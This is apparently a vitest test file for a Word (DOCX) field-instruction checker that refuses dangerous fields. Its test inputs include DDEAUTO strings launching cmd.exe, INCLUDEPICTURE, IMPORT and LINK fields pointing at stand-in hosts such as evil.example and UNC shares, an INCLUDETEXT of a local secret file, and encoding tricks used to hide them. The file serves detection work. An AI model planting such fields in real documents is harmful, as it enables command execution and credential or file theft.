import { describe, expect, it } from 'vitest';
import { checkField, FieldReader } from './docx-fields.js';
import { fieldParagraph } from '../../test/support/word-fields.js';
import { Refusal } from './file-bytes.js';

/** Feeds the XML to a FieldReader in pieces of `size` characters, as a part inflates. */
function read(xml: string, size = 1 << 16): void {
  const reader = new FieldReader();
  for (let at = 0; at < xml.length; at += size) reader.feed(xml.slice(at, at + size));
  reader.finish();
}

const document = (body: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`;

describe('checkField', () => {
  it.each([
    String.raw` DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"`,
    String.raw`dde "c:\\x.exe" "a"`,
    String.raw`INCLUDEPICTURE "https://tracker.example/p.png" \d`,
    String.raw`INCLUDEPICTURE "\\\\evil.example\\share\\p.png"`,
    String.raw`INCLUDEPICTURE \\\\evil.example@SSL\\share\\p.png`,
    String.raw`INCLUDETEXT "C:\\Users\\ana\\secret.docx"`,
    'INCLUDEPICTURE //evil.example/p.png',
    String.raw`LINK Excel.Sheet.12 "file://evil.example/book.xlsx" "Sheet1!R1C1"`,
    'IMPORT http://evil.example/a.wmf',
  ])('refuses %s', (instructions) => {
    expect(() => checkField(instructions, false)).toThrow(Refusal);
  });

  it.each([
    'PAGE',
    String.raw`TOC \o "1-3" \h \z \u`,
    'HYPERLINK "https://a.example/"',
    String.raw`INCLUDEPICTURE "media/logo.png" \* MERGEFORMAT`,
    'MERGEFIELD DDEAUTO',
  ])('accepts %s', (instructions) => {
    expect(() => checkField(instructions, false)).not.toThrow();
  });

  it('refuses an include whose target another field computes', () => {
    expect(() => checkField('INCLUDEPICTURE ""', true)).toThrow(/computes/);
  });
});

describe('FieldReader', () => {
  it('reads instructions split across runs and across the pieces a part inflates in', () => {
    const xml = document(fieldParagraph(' DD', 'EAUTO c:\\\\x.exe ', '"a"'));
    for (const size of [1, 3, 7, 64, 1 << 16]) {
      expect(() => read(xml, size), `pieces of ${size}`).toThrow(/DDEAUTO/);
    }
    expect(() => read(document(fieldParagraph(' PA', 'GE ')), 5)).not.toThrow();
  });

  it('reads simple fields, entities decoded, whatever the prefix', () => {
    expect(() =>
      read(document('<w:fldSimple w:instr="&#68;DEAUTO x"><w:r><w:t>1</w:t></w:r></w:fldSimple>')),
    ).toThrow(/DDEAUTO/);
    expect(() =>
      read(
        document(
          `<x:fldSimple xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main" x:instr='INCLUDETEXT "https://evil.example/a"'/>`,
        ),
      ),
    ).toThrow(/INCLUDETEXT/);
  });

  it('is not misled by quoted > in other tags, comments or text, and reads CDATA as text', () => {
    expect(() =>
      read(
        document(
          `<w:p w:a="x>y"><!-- <w:instrText>DDEAUTO</w:instrText> --><w:r><w:t>DDEAUTO is a word</w:t></w:r><w:r><w:instrText/></w:r><w:r><w:t>DDEAUTO</w:t></w:r></w:p>`,
        ),
      ),
    ).not.toThrow();
    expect(() => read(document(fieldParagraph('<![CDATA[DDEAUTO x]]>')), 4)).toThrow(/DDEAUTO/);
  });

  it('refuses a DTD (its entities could spell any instructions)', () => {
    expect(() =>
      read(`<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e "DDEAUTO">]>${document('')}`),
    ).toThrow(/document type/);
  });

  it('marks a field inside another’s instructions: a computed target or type is refused', () => {
    const nested = `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDEPICTURE "</w:instrText></w:r>${fieldParagraph('MERGEFIELD url')}<w:r><w:instrText>"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
    expect(() => read(document(nested))).toThrow(/computes/);
    const computedType = `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${fieldParagraph('QUOTE "DDEAUTO"')}<w:r><w:instrText> x</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
    expect(() => read(document(computedType))).toThrow(/type another field computes/);
    // A field in another's result (a table of contents' page numbers) is an ordinary field.
    const inResult = `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>TOC \\o</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${fieldParagraph('PAGEREF _Toc1 \\h')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
    expect(() => read(document(inResult))).not.toThrow();
  });

  it('refuses a part that ends inside markup', () => {
    expect(() => read('<w:document><w:body')).toThrow(/inside markup/);
  });
});
